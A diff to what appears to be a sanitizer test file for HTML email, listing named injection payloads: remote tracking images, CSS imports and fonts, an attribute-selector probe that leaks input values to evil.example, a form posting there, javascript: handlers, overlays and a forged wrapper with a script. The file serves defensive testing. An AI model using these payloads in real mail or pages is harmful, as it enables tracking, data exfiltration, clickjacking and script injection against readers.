@@ -114,7 +114,8 @@ const BY_NAME: Record<string, string> = {
   'base address': '<base href="https://evil.example/"><a href="/x">x</a>',
   'base target': '<base target="_top">',
   'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
-  'link prefetch': '<link rel="dns-prefetch" href="//evil.example"><link rel=preload as=image href="https://evil.example/a.png">',
+  'link prefetch':
+    '<link rel="dns-prefetch" href="//evil.example"><link rel=preload as=image href="https://evil.example/a.png">',
   'link import': '<link rel=import href="https://evil.example/x.html">',
   'form that submits': '<form action="https://evil.example/"><input name=a value=b><button>ok</button></form>',
   'button with formaction': `<button formaction="javascript:${CALL}">x</button>`,
@@ -127,8 +128,10 @@ const BY_NAME: Record<string, string> = {
   'remote image': '<img src="https://evil.example/pixel.gif" width=1 height=1>',
   'remote image without a scheme': '<img src="//evil.example/pixel.gif">',
   'remote image by srcset': '<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x">',
-  'remote picture': '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.png"></picture>',
-  'remote background attribute': '<table background="https://evil.example/bg.png"><tr><td background="//evil.example/b">x</td></tr></table>',
+  'remote picture':
+    '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.png"></picture>',
+  'remote background attribute':
+    '<table background="https://evil.example/bg.png"><tr><td background="//evil.example/b">x</td></tr></table>',
   'remote body background': '<body background="https://evil.example/bg.png">x</body>',
   'remote inline style': '<div style="background:url(https://evil.example/a.png)">x</div>',
   'remote inline style in quotes': `<div style="background-image:url('https://evil.example/a.png')">x</div>`,
@@ -142,13 +145,15 @@ const BY_NAME: Record<string, string> = {
   'remote import': '<style>@import "https://evil.example/a.css";</style>',
   'remote import by url': '<style>@import url(//evil.example/a.css) screen;p{color:red}</style>',
   'remote import without an end': '<style>@import url(https://evil.example/a.css)</style>',
-  'remote font face': '<style>@font-face{font-family:x;src:url(https://evil.example/a.woff2)}p{font-family:x}</style><p>x</p>',
+  'remote font face':
+    '<style>@font-face{font-family:x;src:url(https://evil.example/a.woff2)}p{font-family:x}</style><p>x</p>',
   'remote embedded background': '<style>.a{background:url(https://evil.example/a.png)}</style><p class=a>x</p>',
   'remote by attribute selector': '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
   'remote video': '<video src="https://evil.example/a.mp4" poster="https://evil.example/a.png" autoplay></video>',
   'remote audio': '<audio autoplay><source src="https://evil.example/a.mp3"></audio>',
   'remote track': '<video><track src="https://evil.example/a.vtt" default></video>',
-  'remote svg image': '<svg><image href="https://evil.example/a.png"/><feImage xlink:href="https://evil.example/b.png"/></svg>',
+  'remote svg image':
+    '<svg><image href="https://evil.example/a.png"/><feImage xlink:href="https://evil.example/b.png"/></svg>',
   'remote iframe': '<iframe src="https://evil.example/"></iframe>',
   'remote custom property': '<div style="--a:url(https://evil.example/a.png);background:var(--a)">x</div>',
   'style expression': '<div style="width:expression(alert(1))">x</div>',
@@ -167,7 +172,8 @@ const BY_NAME: Record<string, string> = {
   'overlay by transform': '<div style="transform:translateY(-500px) scale(50)">x</div>',
   'overlay by shadow': '<div style="box-shadow:0 0 0 9999px #000">x</div>',
   'overlay by outline': '<div style="outline:9999px solid #000">x</div>',
-  'page styles': '<style>body{display:none}*{color:red!important}html,:root{background:#000}.mf-mail~*{display:none}</style>',
+  'page styles':
+    '<style>body{display:none}*{color:red!important}html,:root{background:#000}.mf-mail~*{display:none}</style>',
   'page styles by sibling': '<style>.mf-mail + div, body ~ nav, html > head + body{visibility:hidden}</style>',
   'media with an escape': '<style>@media screen{</style><img src=x onerror=1>}',
   'forged wrapper': `<div class="mf-mail" style="position:fixed"><script>${CALL}</script></div>`,
